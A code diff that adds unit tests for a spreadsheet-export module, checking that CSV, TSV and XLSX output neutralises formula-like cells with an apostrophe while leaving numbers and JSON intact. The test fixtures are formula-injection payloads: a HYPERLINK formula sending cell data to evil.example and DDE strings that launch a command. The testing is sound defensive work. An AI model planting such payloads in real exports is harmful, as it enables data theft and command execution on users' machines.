@@ -2,7 +2,15 @@ import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import type { ColumnDefinition } from './columns';
 import type { ExtractedRow } from './extraction';
-import { cellText, toCsv, toJson, toTsv, toXlsx, type ExportTable } from './table-export';
+import {
+  cellText,
+  rowObjects,
+  toCsv,
+  toJson,
+  toTsv,
+  toXlsx,
+  type ExportTable,
+} from './table-export';
 
 const columns: ColumnDefinition[] = [
   { name: 'name', type: 'text' },
@@ -127,5 +135,97 @@ describe('toXlsx', () => {
       await toXlsx({ columns: [{ name: 'when', type: 'date' }], rows: [{ when: 'soon' }] }),
     );
     expect(sheet.getCell('A2').value).toBe('soon');
+  });
+});
+
+describe('cells a spreadsheet would run as a formula', () => {
+  const risky: ExportTable = {
+    columns: [
+      { name: 'note', type: 'text' },
+      { name: 'amount', type: 'number' },
+    ],
+    rows: [
+      { note: '=HYPERLINK("https://evil.example?x="&A3,"Click")', amount: -12.5 },
+      { note: "+cmd|' /C calc'!A0", amount: 3 },
+      { note: "-2+3+cmd|' /C calc'!A0", amount: 0 },
+      { note: "@SUM(1+1)*cmd|' /C calc'!A0", amount: null },
+      { note: '\t=1+1', amount: null },
+      { note: '\r=1+1', amount: null },
+    ],
+  };
+  const neutralised = [
+    '\'=HYPERLINK("https://evil.example?x="&A3,"Click")',
+    "'+cmd|' /C calc'!A0",
+    "'-2+3+cmd|' /C calc'!A0",
+    "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "'\t=1+1",
+    "'\r=1+1",
+  ];
+  /** Bank statements whose amounts are typed text: each is only a number, so stays as it is. */
+  const plainNumbers: ExportTable = {
+    columns: [{ name: 'amount', type: 'text' }],
+    rows: ['-1883.70', '+12', '-1,234.5', '-1.234,56', '-.5', '-0'].map((amount) => ({ amount })),
+  };
+
+  it('prefixes risky text cells with an apostrophe in CSV, keeping numbers as numbers', () => {
+    const lines = toCsv(risky).split('\r\n');
+    expect(lines[1]).toBe('"\'=HYPERLINK(""https://evil.example?x=""&A3,""Click"")",-12.5');
+    expect(lines[2]).toBe("'+cmd|' /C calc'!A0,3");
+    expect(lines[3]).toBe("'-2+3+cmd|' /C calc'!A0,0");
+    expect(lines[4]).toBe("'@SUM(1+1)*cmd|' /C calc'!A0,");
+    expect(lines[5]).toBe("'\t=1+1,");
+    expect(lines[6]).toBe('"\'\r=1+1",');
+  });
+
+  it('prefixes risky text cells in TSV (what Copy puts on the clipboard)', () => {
+    const lines = toTsv(risky).split('\n');
+    expect(lines.slice(1).map((line) => line.split('\t')[0])).toEqual([
+      ...neutralised.slice(0, 4),
+      "' =1+1",
+      "' =1+1",
+    ]);
+    expect(lines.slice(1).map((line) => line.split('\t')[1])).toEqual([
+      '-12.5',
+      '3',
+      '0',
+      '',
+      '',
+      '',
+    ]);
+  });
+
+  it('prefixes risky text cells in XLSX and keeps number cells numbers', async () => {
+    const sheet = await readXlsx(await toXlsx(risky));
+    // XML reads a carriage return back as a line feed.
+    for (const [index, text] of neutralised.entries())
+      expect(sheet.getCell(`A${index + 2}`).value).toBe(text.replace('\r', '\n'));
+    expect(sheet.getCell('B2').value).toBe(-12.5);
+  });
+
+  it('neutralises a header that looks like a formula too', async () => {
+    const table = { columns: [{ name: '=1+1', type: 'text' as const }], rows: [] };
+    expect(toCsv(table)).toBe("'=1+1\r\n");
+    expect(toTsv(table)).toBe("'=1+1");
+    expect((await readXlsx(await toXlsx(table))).getCell('A1').value).toBe("'=1+1");
+  });
+
+  it('leaves text that is only a signed number as it is, in every format', async () => {
+    const amounts = plainNumbers.rows.map((row) => row.amount);
+    expect(toTsv(plainNumbers).split('\n').slice(1)).toEqual(amounts);
+    expect(toCsv(plainNumbers).split('\r\n').slice(1, -1)).toEqual([
+      '-1883.70',
+      '+12',
+      '"-1,234.5"',
+      '"-1.234,56"',
+      '-.5',
+      '-0',
+    ]);
+    const sheet = await readXlsx(await toXlsx(plainNumbers));
+    expect(amounts.map((_, index) => sheet.getCell(`A${index + 2}`).value)).toEqual(amounts);
+  });
+
+  it('keeps JSON exact, without apostrophes', () => {
+    expect(JSON.parse(toJson(risky))).toEqual(rowObjects(risky));
+    expect(toJson(risky)).not.toContain("'=");
   });
 });
